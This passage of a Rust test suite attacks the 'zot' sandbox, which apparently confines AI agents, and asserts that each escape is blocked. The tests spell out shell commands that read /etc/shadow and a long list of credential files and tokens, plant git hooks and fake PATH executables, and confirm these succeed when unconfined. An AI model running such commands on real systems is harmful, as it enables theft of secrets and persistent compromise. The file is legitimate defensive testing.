        "/nonexistent-zot-dir",
        "--",
        "/bin/true",
    ]);
    let o = run_limited(cmd, Duration::from_secs(30));
    // A path on the command line that does not exist: a usage error.
    assert_eq!(code(&o), Some(2), "{}", text(&o));
    assert!(text(&o).contains("--writable-root"), "{}", text(&o));
}

/// A `bwrap` planted in the workspace (first on PATH) is never used.
pub fn planted_bwrap_ignored(ctx: &Ctx) {
    let fake = ctx.ws.join("bin/bwrap");
    std::fs::create_dir_all(fake.parent().unwrap()).unwrap();
    let marker = ctx.ws.join("fake-bwrap-ran");
    std::fs::write(
        &fake,
        format!(
            "#!/bin/sh\ntouch {}\nexec /usr/bin/bwrap \"$@\"\n",
            q(&marker)
        ),
    )
    .unwrap();
    make_open(&ctx.ws.join("bin"));
    std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
    if ctx.unpriv && is_root() {
        chown_r(&ctx.ws, NOBODY);
    }
    let mut cmd = ctx.zot();
    cmd.env(
        "PATH",
        format!(
            "{}:/usr/local/bin:/usr/bin:/bin",
            ctx.ws.join("bin").display()
        ),
    );
    cmd.args(ctx.sandbox_args("workspace-write"))
        .args(["--", "/bin/true"]);
    let o = run_limited(cmd, Duration::from_secs(30));
    assert!(
        !marker.exists(),
        "[{} {}] the workspace's bwrap was run:\n{}",
        ctx.backend,
        ctx.who(),
        text(&o)
    );
}

/// The restricted-read view of zotfile agents (`--agent-view`, what
/// `zot run` builds from a manifest): only platform dirs and scopes exist.
pub fn agent_view_restricted(ctx: &Ctx) {
    // zot's own state inside the read scope: `zot run` hides its sessions
    // and other agents' files, and the agent view is built the same way.
    use std::os::unix::fs::PermissionsExt;
    let zot_home = ctx.outside.join("zot-state");
    for d in ["", "sessions", "agents", "agents/other"] {
        std::fs::create_dir_all(zot_home.join(d)).unwrap();
        std::fs::set_permissions(zot_home.join(d), std::fs::Permissions::from_mode(0o777)).unwrap();
    }
    for f in ["sessions/s1.jsonl", "agents/other/secret"] {
        std::fs::write(zot_home.join(f), "ZOT-STATE-SECRET\n").unwrap();
        std::fs::set_permissions(zot_home.join(f), std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let script = format!(
        "echo w > new && cat new || exit 9; cat {ref_} || exit 8; cat /etc/os-release >/dev/null || exit 7; \
         echo x > {ref_} && echo ESCAPED-write-read-scope; cat /etc/shadow 2>/dev/null && echo ESCAPED-shadow; \
         ls {home} 2>/dev/null && echo ESCAPED-home; ls /root 2>/dev/null && echo ESCAPED-root; \
         [ \"$HOME\" = /tmp ] || echo ESCAPED-HOME=$HOME; \
         cat {state}/sessions/s1.jsonl {state}/agents/other/secret 2>/dev/null | grep -q SECRET && echo ESCAPED-zot-state; \
         echo BLOCKED",
        ref_ = q(&ctx.outside.join("victim")),
        home = q(&ctx.home),
        state = q(&zot_home)
    );
    let mut cmd = ctx.zot();
    cmd.env("ZOT_HOME", &zot_home);
    cmd.arg("sandbox")
        .args(ctx.backend_args())
        .args(["--agent-view", "--read-scope"])
        .arg(&ctx.outside)
        .args(["--", "/bin/sh", "-c", &script]);
    let o = run_limited(cmd, Duration::from_secs(30));
    expect_blocked(ctx, "agent view", &o);
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("original"),
        "read scope not readable:\n{}",
        text(&o)
    );
    assert_eq!(
        std::fs::read_to_string(ctx.outside.join("victim")).unwrap(),
        "original\n"
    );
    assert_eq!(std::fs::read_to_string(ctx.ws.join("new")).unwrap(), "w\n");
}

/// The suite can fail: the same attacks escape when nothing confines them.
pub fn sanity_unconfined_escapes(ctx: &Ctx) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!(
        "echo x > {new} && echo ESCAPED-write; echo evil > .git/hooks/pre-commit && echo ESCAPED-hooks; \
         cat \"$HOME/.ssh/id_test\"; {py} -c 'import socket; socket.create_connection((\"127.0.0.1\", {port})); print(\"ESCAPED-net\")'",
        new = q(&ctx.outside.join("new")),
        py = PYTHON
    );
    let o = ctx.sh("danger-full-access", &[], &script);
    let out = String::from_utf8_lossy(&o.stdout);
    for m in [
        "ESCAPED-write",
        "ESCAPED-hooks",
        "SECRET-KEY-MATERIAL",
        "ESCAPED-net",
    ] {
        assert!(
            out.contains(m),
            "unconfined run should show {m}:\n{}",
            text(&o)
        );
    }
    assert!(ctx.outside.join("new").exists());
}

pub fn report_is_printed(ctx: &Ctx) {
    let o = ctx.sh("workspace-write", &["--report"], "true");
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(err.contains(&format!("backend {}", ctx.backend)), "{err}");
    assert!(err.contains("seccomp: full"), "{err}");
    assert!(err.contains("network: full"), "{err}");
}

/// Generates one `#[test]` per attack, as root and as an unprivileged user.

// ------------------------------------------------- credential stores, git, PATH

pub fn credential_stores(ctx: &Ctx) {
    let files = [
        ".git-credentials",
        ".config/gh/hosts.yml",
        ".npmrc",
        ".pypirc",
        ".cargo/credentials.toml",
        ".codex/auth.json",
        ".claude/.credentials.json",
        ".claude.json",
        ".azure/accessTokens.json",
        ".vault-token",
        ".terraform.d/credentials.tfrc.json",
        ".config/op/config",
        ".password-store/x.gpg",
        ".docker/config.json",
        ".kube/config",
        ".aws/credentials",
        ".config/gcloud/credentials.db",
        ".netrc",
        ".gnupg/private-keys-v1.d/k.key",
        ".mozilla/firefox/p.default/cookies.sqlite",
        ".config/google-chrome/Default/Cookies",
        ".config/chromium/Default/Cookies",
        "notes/secret.txt",
    ];
    for f in files {
        let p = ctx.home.join(f);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, "CREDENTIAL-MARKER\n").unwrap();
    }
    // The user's config file adds a path (and --explain says where from).
    let cfg = ctx.home.join(".config/zot/config.toml");
    std::fs::create_dir_all(cfg.parent().unwrap()).unwrap();
    std::fs::write(&cfg, "[sandbox]\ndeny_read = [\"~/notes\"]\n").unwrap();
    make_open(&ctx.home);
    if ctx.unpriv && is_root() {
        chown_r(&ctx.home, NOBODY);
    }
    let mut script = String::new();
    for f in files {
        script.push_str(&format!("cat {} 2>/dev/null; ", q(&ctx.home.join(f))));
    }
    script.push_str("cat /etc/shadow /etc/gshadow 2>/dev/null | head -c 200; echo BLOCKED");
    let o = ctx.sh("workspace-write", &[], &script);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        !out.contains("CREDENTIAL-MARKER") && !out.contains("root:"),
        "[{} {}] a credential store is readable:\n{}",
        ctx.backend,
        ctx.who(),
        text(&o)
    );
    expect_blocked(ctx, "read credential stores", &o);
    // The password database's home is protected too when HOME points
    // elsewhere (or is unset): the real home of root has an ~/.ssh here.
    let pw_home = if ctx.unpriv {
        None
    } else {
        Some(PathBuf::from("/root"))
    };
    match pw_home.filter(|h| h.join(".ssh").is_dir()) {
        Some(h) => {
            let o = ctx.sh(
                "read-only",
                &[],
                &format!("ls -a {} >/dev/null 2>&1 && ls -a {} | grep -v '^\\.' | head -1 | grep . && echo ESCAPED; echo BLOCKED", q(&h.join(".ssh")), q(&h.join(".ssh"))),
            );
            expect_blocked(
                ctx,
                "read the password database home's ~/.ssh with HOME elsewhere",
                &o,
            );
        }
        None => eprintln!("skip: no ~/.ssh in the password database home of this user"),
    }
    let mut c = ctx.zot();
    c.args([
        "debug",
        "sandbox",
        "--explain",
        "--json",
        "--mode",
        "workspace-write",
    ]);
    let o = run_limited(c, Duration::from_secs(30));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("config.toml") || out.contains("notes"),
        "{}",
        text(&o)
    );
}

fn git(dir: &Path, args: &[&str]) {
    let o = Command::new("git")
        .args([
            "-c",
            "user.email=t@t",
            "-c",
            "user.name=t",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(o.status.success(), "git {args:?}: {}", text(&o));
}

/// Every file git reads as configuration or runs, in repositories at any
/// depth: read-only; the rest of `.git` writable.
pub fn git_everything(ctx: &Ctx) {
    let deep = ctx.ws.join("a/b/c/d/e/f/g/h/i/j/repo");
    std::fs::create_dir_all(&deep).unwrap();
    git(&deep, &["init", "-q"]);
    git(&deep, &["config", "core.hooksPath", ".husky"]);
    std::fs::create_dir_all(deep.join(".husky")).unwrap();
    std::fs::write(deep.join(".husky/pre-commit"), "true\n").unwrap();
    std::fs::create_dir_all(deep.join(".git/modules/sub/hooks")).unwrap();
    std::fs::write(deep.join(".git/modules/sub/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(deep.join(".git/modules/sub/config"), "[core]\n").unwrap();
    std::fs::create_dir_all(deep.join("sub")).unwrap();
    std::fs::write(deep.join("sub/.git"), "gitdir: ../.git/modules/sub\n").unwrap();
    std::fs::create_dir_all(deep.join(".git/worktrees/wt")).unwrap();
    std::fs::write(deep.join(".git/worktrees/wt/gitdir"), "/elsewhere/.git\n").unwrap();
    std::fs::write(deep.join(".git/config.worktree"), "").unwrap();
    make_open(&ctx.ws);
    if ctx.unpriv && is_root() {
        chown_r(&ctx.ws, NOBODY);
    }
    let d = "a/b/c/d/e/f/g/h/i/j/repo";
    let attempts = [
        format!("echo evil > {d}/.git/hooks/pre-commit"),
        format!("echo '[alias]' >> {d}/.git/config"),
        format!("echo x > {d}/.git/config.worktree"),
        format!("echo '*' > {d}/.git/info/exclude"),
        format!("echo evil > {d}/.husky/pre-commit"),
        format!("echo evil > {d}/.husky/post-checkout"),
        format!("echo 'gitdir: /tmp/evil' > {d}/sub/.git"),
        format!("echo x >> {d}/.git/modules/sub/config"),
        format!("echo evil > {d}/.git/modules/sub/hooks/post-checkout"),
        format!("echo /x > {d}/.git/worktrees/wt/gitdir"),
        format!("rm -rf {d}/.husky"),
    ];
    // A missing commondir cannot be blocked (a placeholder breaks git): it
    // is renamed aside after the run.
    let mut script = format!("echo /x > {d}/.git/commondir; ");
    for a in &attempts {
        script.push_str(&format!("{a} 2>/dev/null && echo ESCAPED: {a:?}; "));
    }
    script.push_str(&format!(
        "echo ok > {d}/.git/COMMIT_EDITMSG || exit 9; echo BLOCKED"
    ));
    let o = ctx.sh("workspace-write", &[], &script);
    expect_blocked(ctx, "write git control files of a deep repository", &o);
    assert_eq!(
        std::fs::read_to_string(deep.join(".husky/pre-commit")).unwrap(),
        "true\n"
    );
    assert!(!deep.join(".git/hooks/pre-commit").exists());
    assert!(!deep.join(".git/commondir").exists());
    assert!(!deep.join(".git/config").read_link().is_ok());
    assert!(!std::fs::read_to_string(deep.join(".git/config"))
        .unwrap()
        .contains("[alias]"));
    // --explain lists them
    let mut c = ctx.zot();
    c.args([
        "debug",
        "sandbox",
        "--explain",
        "--json",
        "--mode",
        "workspace-write",
    ]);
    let o = run_limited(c, Duration::from_secs(30));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains(&format!("{d}/.husky"))
            && out.contains(&format!("{d}/.git/modules/sub/hooks")),
        "{}",
        text(&o)
    );
}

/// Controls: git status and git commit in a workspace that is a repository
/// root, git status and log in one that is a subdirectory of a repository.
pub fn git_commit_and_status_work(ctx: &Ctx) {
    std::fs::remove_dir_all(ctx.ws.join(".git")).unwrap();
    let proj = ctx.ws.join("proj");
    std::fs::create_dir_all(proj.join("sub")).unwrap();
    std::fs::write(proj.join("sub/a.txt"), "a\n").unwrap();
    git(&proj, &["init", "-q"]);
    git(&proj, &["add", "."]);
    git(&proj, &["commit", "-qm", "init"]);
    make_open(&ctx.ws);
    if ctx.unpriv && is_root() {
        chown_r(&ctx.ws, NOBODY);
    }
    let g = "git -c user.email=t@t -c user.name=t";
    let o = ctx.sh(
        "workspace-write",
        &["--cwd", "proj"],
        &format!("{g} status --short && echo b > b.txt && {g} add b.txt && {g} commit -qm second && {g} log --oneline | wc -l"),
    );
    expect_ok(ctx, "git status and commit at a repository root", &o);
    assert!(
        String::from_utf8_lossy(&o.stdout).contains('2'),
        "{}",
        text(&o)
    );
    let o = ctx.sh(
        "workspace-write",
        &["--cwd", "proj/sub"],
        &format!(
            "{g} status --short && {g} log --oneline | wc -l && {g} rev-parse --show-toplevel"
        ),
    );
    expect_ok(ctx, "git status in a repository subdirectory", &o);
    assert!(
        !proj.join("sub/.git").exists(),
        "a .git placeholder was left in the work tree"
    );
}

/// A repository created during the run (also by renaming its parent into
/// place) is renamed aside after it, and reported.
pub fn new_repo_quarantined(ctx: &Ctx) {
    let o = ctx.sh(
        "workspace-write",
        &[],
        "mkdir -p x/y && git init -q x/y && mkdir -p t/r && git init -q t/r && mv t u && echo BLOCKED",
    );
    expect_blocked(ctx, "create repositories during the run", &o);
    for p in ["x/y/.git", "u/r/.git"] {
        assert!(
            !ctx.ws.join(p).exists(),
            "{p} survived the run:\n{}",
            text(&o)
        );
    }
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("x/y/.git") && err.contains("zot-quarantine"),
        "{}",
        text(&o)
    );
}

/// A bare repository (HEAD + objects + refs, as git's discovery sees one)
/// inside the workspace: its hooks run on push, its config on any use.
pub fn bare_repo_hooks(ctx: &Ctx) {
    let bare = ctx.ws.join("remotes/x.git");
    for d in ["objects", "refs/heads", "hooks"] {
        std::fs::create_dir_all(bare.join(d)).unwrap();
    }
    std::fs::write(bare.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(bare.join("config"), "[core]\n\tbare = true\n").unwrap();
    if ctx.unpriv && is_root() {
        chown_r(&ctx.ws, NOBODY);
    }
    let script = "echo evil > remotes/x.git/hooks/pre-receive && echo ESCAPED; \
                  echo x >> remotes/x.git/config && echo ESCAPED; echo BLOCKED";
    let o = ctx.sh("workspace-write", &[], script);
    expect_blocked(ctx, "plant a hook in a bare repository", &o);
    assert!(!bare.join("hooks/pre-receive").exists());
    // The attack works unconfined.
    let o = ctx.sh("danger-full-access", &[], script);
    assert!(String::from_utf8_lossy(&o.stdout).contains("ESCAPED"), "{}", text(&o));
}

/// A repository inside a directory that can be entered and written but
/// not listed (mode 0333) is not hidden by it: the directory is kept
/// read-only whole, and the report says so.
pub fn unlistable_dir_fails_closed(ctx: &Ctx) {
    let wx = ctx.ws.join("wx");
    std::fs::create_dir_all(wx.join("repo/.git/hooks")).unwrap();
    std::fs::write(wx.join("repo/.git/config"), "[core]\n").unwrap();
    if ctx.unpriv && is_root() {
        chown_r(&ctx.ws, NOBODY);
    }
    std::fs::set_permissions(&wx, std::fs::Permissions::from_mode(0o333)).unwrap();
    let script = "echo evil > wx/repo/.git/hooks/pre-commit && echo ESCAPED; \
                  echo x >> wx/repo/.git/config && echo ESCAPED; echo BLOCKED";
    let o = ctx.sh("workspace-write", &["--report"], script);
    let restore = || std::fs::set_permissions(&wx, std::fs::Permissions::from_mode(0o755)).unwrap();
    let written = wx.join("repo/.git/hooks/pre-commit").exists();
    let listable_for_zot = !ctx.unpriv;
    restore();
    expect_blocked(ctx, "plant a hook in a repository of an unlistable directory", &o);
    assert!(!written);
    if !listable_for_zot {
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains("cannot be listed"), "{}", text(&o));
    }
    std::fs::set_permissions(&wx, std::fs::Permissions::from_mode(0o333)).unwrap();
    let o = ctx.sh("danger-full-access", &[], script);
    restore();
    assert!(String::from_utf8_lossy(&o.stdout).contains("ESCAPED"), "{}", text(&o));
}

/// A renamed parent and a new repository at its old path is a new
/// repository (identity, not path): renamed aside after the run.
pub fn renamed_parent_new_repo(ctx: &Ctx) {
    std::fs::create_dir_all(ctx.ws.join("vendor/lib/.git/hooks")).unwrap();
    std::fs::write(ctx.ws.join("vendor/lib/.git/config"), "[core]\n").unwrap();
    make_open(&ctx.ws.join("vendor"));
    if ctx.unpriv && is_root() {
        chown_r(&ctx.ws, NOBODY);
    }
    let o = ctx.sh(
        "workspace-write",
        &[],
        "mv vendor/lib vendor/lib.orig; mkdir -p vendor/lib/.git/hooks && echo x > vendor/lib/.git/hooks/post-checkout; echo BLOCKED",
    );
    expect_blocked(ctx, "a new repository at a renamed parent's path", &o);
    assert!(
        !ctx.ws.join("vendor/lib/.git").exists(),
        "vendor/lib/.git survived the run:\n{}",
        text(&o)
    );
}

/// The persisted workspace index is trusted only when it is intact and
/// this user's: an edited one (or another user's) is discarded, and the
/// repositories it would have hidden stay protected.
pub fn index_cache_untrusted(ctx: &Ctx) {
    std::fs::create_dir_all(ctx.ws.join("r/.git/hooks")).unwrap();
    std::fs::write(ctx.ws.join("r/.git/config"), "[core]\n").unwrap();
    if ctx.unpriv && is_root() {
        chown_r(&ctx.ws, NOBODY);
    }
    let o = ctx.sh("workspace-write", &[], "true");
    expect_ok(ctx, "a run that writes the index", &o);
    let dir = ctx.home.join(".local/state/zot/cache/index");
    let cache = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .flatten()
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|x| x == "idx"))
        .expect("no persisted index");
    let script = "echo evil > r/.git/hooks/pre-commit && echo ESCAPED; echo BLOCKED";
    let mut bytes = std::fs::read(&cache).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x01;
    std::fs::write(&cache, &bytes).unwrap();
    let o = ctx.sh("workspace-write", &["--report"], script);
    expect_blocked(ctx, "write hooks with an edited index", &o);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("persisted index was not used"), "{}", text(&o));
    if is_root() && !ctx.unpriv {
        std::os::unix::fs::lchown(&cache, Some(NOBODY), Some(NOBODY)).unwrap();
        let o = ctx.sh("workspace-write", &["--report"], script);
        expect_blocked(ctx, "write hooks with another user's index", &o);
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains("owned by another user"), "{}", text(&o));
    }
    assert!(!ctx.ws.join("r/.git/hooks/pre-commit").exists());
}

/// A tree deeper than the scan goes says so in the report.
pub fn deep_tree_is_reported(ctx: &Ctx) {
    let mut p = ctx.ws.join("deep");
    for i in 0..205 {
        p.push(format!("{}", i % 10));
    }
    std::fs::create_dir_all(&p).unwrap();
    if ctx.unpriv && is_root() {
        chown_r(&ctx.ws, NOBODY);
    }
    let o = ctx.sh("workspace-write", &["--report"], "true");
    expect_ok(ctx, "a run in a deep tree", &o);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("scan stopped"), "{}", text(&o));
}

/// Placeholders of a run killed with SIGKILL are removed by the next zot
/// invocation.
pub fn placeholders_swept_after_sigkill(ctx: &Ctx) {
    let mut c = ctx.zot();
    c.args(ctx.sandbox_args("workspace-write"))
        .args(["--", "/bin/sleep", "30"])
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    let mut child = c.spawn().unwrap();
    let zot_file = ctx.ws.join(".zot");
    let t0 = std::time::Instant::now();
    while !zot_file.exists() && t0.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(zot_file.exists(), "no placeholder appeared");
    std::thread::sleep(Duration::from_millis(200));
    child.kill().unwrap(); // SIGKILL
    child.wait().unwrap();
    assert!(zot_file.exists(), "the killed run could not clean up");
    let o = ctx.sh("read-only", &[], "true");
    expect_ok(ctx, "the next run", &o);
    assert!(
        !zot_file.exists(),
        "a killed run's placeholder was not swept"
    );
    assert!(!ctx.ws.join(".agents").exists());
}

/// A directory of the caller's PATH inside the workspace stays read-only.
pub fn path_dirs_read_only(ctx: &Ctx) {
    std::fs::create_dir_all(ctx.ws.join(".venv/bin")).unwrap();
    std::fs::create_dir_all(ctx.ws.join("node_modules/.bin")).unwrap();
    make_open(&ctx.ws);
    if ctx.unpriv && is_root() {
        chown_r(&ctx.ws, NOBODY);
    }
    let path = format!(
        "{}:{}:/usr/local/bin:/usr/bin:/bin",
        ctx.ws.join(".venv/bin").display(),
        ctx.ws.join("node_modules/.bin").display()
    );
    let mut c = ctx.zot();
    c.env("PATH", &path)
        .args(ctx.sandbox_args("workspace-write"))
        .args(["--report", "--", "/bin/sh", "-c"])
        .arg("echo evil > .venv/bin/git && echo ESCAPED; echo evil > node_modules/.bin/python && echo ESCAPED; echo ok > other || exit 9; echo BLOCKED");
    let o = run_limited(c, Duration::from_secs(30));
    expect_blocked(ctx, "plant an executable in a PATH directory", &o);
    assert!(!ctx.ws.join(".venv/bin/git").exists());
    assert!(
        String::from_utf8_lossy(&o.stderr).contains(".venv/bin"),
        "{}",
        text(&o)
    );
}

/// Only the real locale variables pass, and only with locale-name values.
pub fn locale_env_filtered(ctx: &Ctx) {
    let mut c = ctx.zot();
    c.env("LC_ALL", "/tmp/evil-locale")
        .env("LC_EVIL_TOKEN", "x")
        .env("LC_TIME", "de_DE.UTF-8")
        .args(ctx.sandbox_args("read-only"))
        .args(["--", "/usr/bin/env"]);
    let o = run_limited(c, Duration::from_secs(30));
    expect_ok(ctx, "env", &o);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("LANG=C.UTF-8") && out.contains("LC_TIME=de_DE.UTF-8"),
        "{}",
        text(&o)
    );
    assert!(
        !out.contains("LC_ALL") && !out.contains("LC_EVIL_TOKEN"),
        "{}",
        text(&o)
    );
}

#[macro_export]
macro_rules! attack_tests {
    ($backend:expr; $($name:ident),* $(,)?) => {
        $(
            mod $name {
                #[test]
                fn as_root() {
                    if let Some(ctx) = $crate::attacks::Ctx::new($backend, false) {
                        $crate::attacks::$name(&ctx);
                    }
                }
                #[test]
                fn as_unprivileged() {
                    if let Some(ctx) = $crate::attacks::Ctx::new($backend, true) {
                        $crate::attacks::$name(&ctx);
                    }
                }
            }
        )*
    };
    ($backend:expr) => {
        $crate::attack_tests!($backend;
            control_write_read_inside_cwd, control_read_os_release, control_private_tmp_and_own_unix_socket,
            read_only_mode_refuses_cwd_writes, write_outside_cwd, write_etc, write_bashrc, read_ssh_key,
            symlink_preplanted, symlink_fresh, git_hooks_and_config, protected_paths_missing, rename_git_aside,
            nested_repo_hooks, unmount_protections, hardlink_from_outside, tcp_loopback, unix_socket_host_path, unix_socket_host_abstract,
            unix_socket_host_anywhere, unix_socket_host_after_launch, unix_socket_other_netns,
            unix_socket_rename_and_memory_races, unix_socket_host_abstract_net, control_own_sockets_and_tools,
            tmpfs_size_limit, fork_loop_stops, landlock_host_ipc, host_process_ptrace_kill_environ, host_pids_invisible, parent_secret_env, mount_refused,
            nested_userns_refused, chroot_refused, io_uring_refused, no_new_privs_and_seccomp_on, tiocsti_injection,
            orphan_grandchild_dies, timeout_kills_tree, output_flood_capped, signal_forwarding,
            signals_reach_the_process_group, a_signal_during_start_up_is_not_lost,
            exit_code_mapping,
            report_is_printed, sanity_unconfined_escapes,
            credential_stores, git_everything, git_commit_and_status_work, new_repo_quarantined,
            bare_repo_hooks, unlistable_dir_fails_closed, renamed_parent_new_repo,
            index_cache_untrusted, deep_tree_is_reported,
            placeholders_swept_after_sigkill, path_dirs_read_only, locale_env_filtered,
            git_config_includes, git_hooks_path_missing, git_command_keys, git_worktree_config,
            git_global_config_in_workspace, path_lookups_planted, control_toolchain_and_node_bin,
            placeholder_races, views_enclosing_repository, views_repository_under_tmp,
            creds_named_by_environment, creds_under_xdg, zot_state_unreadable,
            creds_inside_workspace_home, control_tmp_and_own_sockets, host_socket_in_tmp,
            fanotify_refused, process_limit_counts_threads_exactly, memory_limit_or_reported,
            tmpfs_inode_limit,
        );
    };
}
